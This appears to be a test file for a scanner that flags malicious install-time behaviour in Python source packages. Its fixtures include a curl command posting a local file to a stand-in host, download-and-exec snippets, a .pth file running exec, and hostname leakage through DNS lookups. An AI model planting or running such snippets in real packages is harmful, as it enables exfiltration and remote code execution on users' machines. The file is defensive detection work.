import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { DEFAULT_LIMITS } from "../limits.ts";
import { inspectTree } from "./inspect.ts";
import { withLayers } from "./layers.ts";
import { PREFILTER } from "./searched.ts";
import { treeOfFiles } from "./unpack.ts";

const COMMAND = "curl -s http://example.invalid/x -d @notes.txt";
const PUBLISH = `from setuptools import setup, Command
import os
class Publish(Command):
    def run(self):
        os.system('${COMMAND}')
`;
/** A module of some size, as real programs are. */
const MUCH = Array.from(
  { length: 150 },
  (_, at) => `def filler_${at}(a, b):\n    c = a + b\n    return c * ${at}\n`,
).join("");

function read(files: Record<string, string>) {
  const entries = Object.entries(files).map(([path, text]) => [`demo-1.0/${path}`, Buffer.from(text)] as const);
  const tree = treeOfFiles(entries, { filename: "demo-1.0.tar.gz", ecosystem: "pypi", form: "sdist" }, PREFILTER);
  return inspectTree(withLayers(tree, PREFILTER, DEFAULT_LIMITS.lexedBytes), DEFAULT_LIMITS);
}

function found(files: Record<string, string>): readonly string[] {
  return read(files).findings.map(({ detector }) => detector);
}

function points(files: Record<string, string>, detector: string): number {
  return read(files).verdict.contributions?.find((one) => one.detector === detector)?.points ?? 0;
}

describe("a command of setup.py that installing does not run", () => {
  test("is not taken for what installing does, nor is a function that only it uses", () => {
    const files = { "setup.py": `${PUBLISH}setup(name='demo', cmdclass={'publish': Publish})\n` };
    assert.ok(!found(files).includes("setup-starts-process"));
    const helped = PUBLISH.replace(`os.system('${COMMAND}')`, "upload()").replace(
      "class",
      `def upload():\n    os.system('${COMMAND}')\nclass`,
    );
    assert.ok(
      !found({ "setup.py": `${helped}setup(cmdclass=dict(publish=Publish))\n` }).includes("setup-starts-process"),
    );
  });

  for (const [how, end] of [
    ["as part of an installation", "setup(cmdclass={'build_py': Publish})\n"],
    ["under another name that the script runs itself", "setup(cmdclass={'x': Publish}, script_args=['x'])\n"],
    ["and used elsewhere", "Publish.run(None)\nsetup(cmdclass={'publish': Publish})\n"],
    ["for two commands", "setup(cmdclass={'publish': Publish, 'install': Publish})\n"],
  ] as const) {
    test(`counts fully when it is registered ${how}`, () => {
      assert.ok(found({ "setup.py": PUBLISH + end }).includes("setup-starts-process"));
    });
  }
});

describe("a module that setup.py imports", () => {
  const helper = `import os\ndef go():\n    os.system('${COMMAND}')\n`;

  test("is not run by being imported for its version", () => {
    const setup = "from setuptools import setup\nfrom demo import __version__\nsetup(version=__version__)\n";
    assert.ok(!found({ "setup.py": setup, "demo.py": helper }).includes("setup-starts-process"));
  });

  test("is run where setup.py names its function, or its own top level does", () => {
    const setup = "from setuptools import setup\nfrom demo import go\ngo()\nsetup()\n";
    assert.ok(found({ "setup.py": setup, "demo.py": helper }).includes("setup-starts-process"));
    const plain = "from setuptools import setup\nimport demo\nsetup()\n";
    assert.ok(found({ "setup.py": plain, "demo.py": `${helper}go()\n` }).includes("setup-starts-process"));
  });
});

describe("what setup.py starts", () => {
  const starts = (command: string, more: Record<string, string> = {}) =>
    points(
      { "setup.py": `import subprocess, sys, os\nsubprocess.call(${command})\n`, ...more },
      "setup-starts-process",
    );

  test("counts little when it asks for a version, compiles, or runs a script of the release", () => {
    assert.equal(starts("[os.environ['CUDA'] + '/bin/nvcc', '-V']"), 0);
    assert.equal(starts("['curl', '--version']"), 0);
    assert.equal(starts("['msbuild', 'demo.sln']") > 2.3, false);
    assert.ok(starts("[sys.executable, 'scripts/gen.py']", { "scripts/gen.py": "x = 1\n" }) < 1.5);
  });

  test("counts enough to be withheld when it opens programs, reaches out of the tree or asks for a version with something behind", () => {
    for (const command of ["'start x'", "'python3 /tmp/a.py'", "['notepad']", "'cd x && mshta y'", "'nvcc -V; calc'"])
      assert.ok(starts(command) > 4, command);
  });
});

describe("a flow", () => {
  const fetch = "import urllib.request, subprocess\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n";
  const start = "def start(data):\n    subprocess.call([data])\ndef both(url):\n    start(fetch(url))\n";
  const one =
    "import urllib.request, os\ndef get(u):\n    d = urllib.request.urlopen(u).read()\n    open('up.bin', 'wb').write(d)\n    os.system('./up.bin')\n";

  test("counts fully in one function, however much stands round it, and less between functions far apart", () => {
    const near = points({ "demo/a.py": one }, "downloads-and-runs");
    assert.equal(points({ "demo/a.py": `${MUCH}${one}${MUCH}` }, "downloads-and-runs"), near);
    assert.ok(points({ "demo/a.py": `${fetch}${MUCH}${start}` }, "downloads-and-runs") < near / 2);
    assert.ok(points({ "demo/a.py": `${fetch}${start}` }, "downloads-and-runs") > near / 2);
  });
});

describe("what is there for developers", () => {
  const attack = "import urllib.request\nexec(urllib.request.urlopen('http://example.invalid/x').read())\n";

  test("counts half, unless what is imported or installed names it", () => {
    const plain = points({ "doc/conf.py": attack }, "downloads-and-runs");
    assert.ok(plain > 0 && plain < 3);
    for (const importer of ["from doc.conf import x\n", "import doc.conf\n", "exec(open('doc/conf.py').read())\n"])
      assert.ok(
        points({ "doc/conf.py": attack, "demo/__init__.py": importer }, "downloads-and-runs") > plain,
        importer,
      );
  });
});

describe("a .pth file", () => {
  test("that imports a module of the release is judged by that module, one that does more by itself", () => {
    const files = { "demo.pth": "import demo_start\n", "demo_start.py": "x = 1\n" };
    assert.equal(read(files).verdict.word, "clean");
    const attack = { ...files, "demo_start.py": `import os\nos.system('${COMMAND}')\n` };
    assert.notEqual(read(attack).verdict.word, "clean");
    assert.notEqual(read({ "demo.pth": "import os; exec('x')\n" }).verdict.word, "clean");
  });
});

describe("facts about this machine", () => {
  test("are not sent by looking up names of the local network, but by names below a domain", () => {
    const looks = (name: string) =>
      found({ "demo/__init__.py": `import socket\nsocket.gethostbyname(socket.gethostname() + '${name}')\n` });
    assert.ok(!looks(".local").includes("sends-host-facts"));
    assert.ok(looks(".local.example.invalid").includes("sends-host-facts"));
    assert.ok(looks(".x.example").includes("sends-host-facts"));
  });
});
